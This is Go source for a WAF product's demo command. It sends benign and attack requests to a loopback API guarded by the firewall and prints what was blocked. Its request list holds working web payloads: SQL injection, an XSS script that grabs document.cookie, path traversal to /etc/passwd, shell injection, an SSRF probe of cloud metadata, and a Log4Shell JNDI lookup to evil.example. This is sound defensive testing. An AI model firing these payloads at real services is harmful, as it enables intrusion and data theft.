// Package demo is `rampart demo`, the README's first command: it starts
// the collector and its UI in-process (package collector/daemon, on the
// embedded store), attacks a small API protected by the WAF, the
// vulnerable example application (examples/vulnapp) with exploit
// prevention, as a net/http service and as a Lambda function under the
// runtime interface emulator when aws-lambda-rie is installed (in Go, and
// in Python, examples/python-lambda, when awslambdaric is too), and its
// /login with a credential-stuffing campaign and a brute force, and prints
// what was detected and blocked. Outgoing requests reach loopback only
// (internal/loopback), and the demo's client addresses come from the
// documentation ranges: nothing leaves the machine.
package demo

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"sync"
	"text/tabwriter"
	"time"

	"github.com/rampartsec/rampart"
	"github.com/rampartsec/rampart/event"
	"github.com/rampartsec/rampart/httpguard"
)

// demoRequest is one request the demo sends.
type demoRequest struct {
	what   string
	method string
	target string
	body   string
	ctype  string
	header [2]string
	// category is the category of the rule an attack should be blocked by.
	category string
}

var demoRequests = []demoRequest{
	{what: "normal search", method: "GET", target: "/search?q=running+shoes&page=2"},
	{what: "normal JSON order", method: "POST", target: "/orders", body: `{"item":"sku-1234","quantity":2,"note":"Leave it with O'Brien at the front desk"}`, ctype: "application/json"},
	{what: "normal comment with SQL words", method: "POST", target: "/comments", body: "text=Please+select+the+best+option+and+drop+me+a+line", ctype: "application/x-www-form-urlencoded"},
	{what: "SQL injection in the query", category: "sqli", method: "GET", target: "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20"},
	{what: "UNION-based SQL injection in JSON", category: "sqli", method: "POST", target: "/orders", body: `{"item":"1 UNION SELECT username, password FROM users--","quantity":1}`, ctype: "application/json"},
	{what: "reflected XSS", category: "xss", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
	{what: "path traversal", category: "lfi", method: "GET", target: "/files?name=..%2F..%2F..%2Fetc%2Fpasswd"},
	{what: "shell injection", category: "rce", method: "POST", target: "/comments", body: "text=hello%3B+id%3B+uname+-a", ctype: "application/x-www-form-urlencoded"},
	{what: "SSRF to cloud metadata", category: "ssrf", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
	{what: "Log4Shell in a header", category: "jndi", method: "GET", target: "/search?q=ok", header: [2]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
	{what: "scanner user agent", category: "scanner", method: "GET", target: "/", header: [2]string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
	{what: "normal health check", method: "GET", target: "/healthz"},
}

// Config configures the demo.
type Config struct {
	// Addr is the address of the demo API (loopback; empty: a free
	// loopback port).
	Addr string
	// UIAddr is the address of the collector and its UI (loopback; a free
	// loopback port when it is taken or empty).
	UIAddr string
	// Data is the collector's data directory; empty: a new temporary
	// directory, removed when the demo ends.
	Data string
	// Keep keeps the collector and its UI running after the scenario,
	// until ctx is done.
	Keep bool
}

// Run is `rampart demo`: the collector with its UI on the embedded store,
// then the WAF on a small API, exploit prevention and account-takeover
// protection on the vulnerable example application, every event reported
// to the collector. It prints what was detected and blocked on out, and
// leaves the collector up (with cfg.Keep, until ctx is done) with its URL
// and login.
func Run(ctx context.Context, out io.Writer, cfg Config) error {
	addr := cfg.Addr
	if addr == "" {
		addr = "127.0.0.1:0"
	}
	col, err := startDemoCollector(ctx, cfg.UIAddr, cfg.Data)
	if err != nil {
		return err
	}
	defer col.stop()
	fmt.Fprintf(out, "rampart %s demo: collector and UI on %s (embedded SQLite in %s)\n\n", rampart.Version, col.url, col.dir)

	fmt.Fprintf(out, "1. The WAF on a small API (block mode)\n\n")
	if err := wafDemo(out, addr, col); err != nil {
		return err
	}
	if err := raspDemo(out, col); err != nil {
		return err
	}
	if err := lambdaDemo(ctx, out, col); err != nil {
		return err
	}
	if err := pythonLambdaDemo(ctx, out, col); err != nil {
		return err
	}
	if err := atoDemo(ctx, out, col); err != nil {
		return err
	}
	if err := col.summary(out); err != nil {
		return err
	}
	fmt.Fprintf(out, "\nThe UI: %s  (log in with the admin token %s)\n", col.url, col.token)
	if !cfg.Keep {
		return nil
	}
	fmt.Fprintf(out, "Ctrl-C stops the collector.\n")
	<-ctx.Done()
	return nil
}

// wafAttackers are the addresses the WAF step's attacks come from.
var wafAttackers = []string{"203.0.113.7", "198.51.100.61", "203.0.113.99"}

// wafClientIP is the address request i of the WAF step comes from: the
// normal requests from one user, the attacks from three attackers.
func wafClientIP(i int, d demoRequest) string {
	if d.category == "" {
		return "192.0.2.20"
	}
	return wafAttackers[i%len(wafAttackers)]
}

// wafDemo runs the WAF on a small API and prints each verdict.
func wafDemo(out io.Writer, addr string, col *demoCollector) error {
	var mu sync.Mutex
	events := map[string]*event.Event{}
	fwd := col.exporter("demo-api")
	defer fwd.Close(context.Background())
	agent, err := rampart.New(rampart.Config{
		Enabled: true, Mode: rampart.ModeBlock, Service: "demo-api",
		// The clients are told apart by X-Forwarded-For, as behind a load
		// balancer (the demo's clients all connect from loopback).
		TrustAllProxies: true,
		// A wider budget than production's 5 ms: the demo often runs on a
		// busy machine (or under go test), and must show every verdict.
		Timeout: 50 * time.Millisecond,
		Logger:  slog.New(slog.NewTextHandler(io.Discard, nil)),
		Exporter: rampart.ExporterFunc(func(e *event.Event) {
			fwd.Export(e)
			mu.Lock()
			events[e.Request.URI+"|"+e.Request.Method] = e
			mu.Unlock()
		}),
	})
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "WAF ready in %v (%d rules)\n", agent.InitDuration().Round(time.Microsecond), agent.Engine().RuleCount())

	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]string{"ok": "true", "path": r.URL.Path})
	})
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: httpguard.New(agent, mux), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		defer cancel()
		_ = srv.Shutdown(ctx)
	}()
	base := "http://" + ln.Addr().String()
	fmt.Fprintf(out, "demo API protected by httpguard on %s\n", base)
	fmt.Fprintf(out, "(behind a trusted proxy on loopback: the attacks come from %s, the normal requests from 192.0.2.20)\n\n", strings.Join(wafAttackers, ", "))

	tw := tabwriter.NewWriter(out, 0, 4, 2, ' ', 0)
	fmt.Fprintln(tw, "REQUEST\tSTATUS\tVERDICT\tRULES")
	client := &http.Client{Timeout: 5 * time.Second}
	blocked := 0
	for i, d := range demoRequests {
		req, err := http.NewRequest(d.method, base+d.target, strings.NewReader(d.body))
		if err != nil {
			return err
		}
		req.Header.Set("User-Agent", "Mozilla/5.0 (demo client)")
		req.Header.Set("X-Forwarded-For", wafClientIP(i, d))
		if d.ctype != "" {
			req.Header.Set("Content-Type", d.ctype)
		}
		if d.header[0] != "" {
			req.Header.Set(d.header[0], d.header[1])
		}
		resp, err := client.Do(req)
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		// The event is exported when the request finishes, just after the
		// response is written.
		var ev *event.Event
		for i := 0; i < 100 && ev == nil; i++ {
			mu.Lock()
			ev = events[req.URL.RequestURI()+"|"+d.method]
			mu.Unlock()
			if ev == nil && resp.StatusCode == http.StatusForbidden {
				time.Sleep(2 * time.Millisecond)
				continue
			}
			break
		}
		verdict := "passed"
		if resp.StatusCode == http.StatusForbidden {
			verdict = "BLOCKED"
			blocked++
		}
		var why []string
		if ev != nil {
			for _, t := range ev.Triggers {
				why = append(why, fmt.Sprintf("%s (%s in %s)", t.RuleID, t.Category, shortAddr(t.Address, t.KeyPath)))
			}
		}
		fmt.Fprintf(tw, "%s\t%d\t%s\t%s\n", d.what, resp.StatusCode, verdict, strings.Join(why, ", "))
	}
	tw.Flush()
	st := agent.Stats()
	fmt.Fprintf(out, "\n%d requests, %d flagged, %d blocked, %d internal errors\n", st.Requests.Load(), st.Attacks.Load(), blocked, st.Panics.Load())
	return fwd.Flush(context.Background())
}

func shortAddr(addr string, kp []string) string {
	addr = strings.TrimPrefix(addr, "server.request.")
	if len(kp) > 0 {
		addr += "." + strings.Join(kp, ".")
	}
	return addr
}
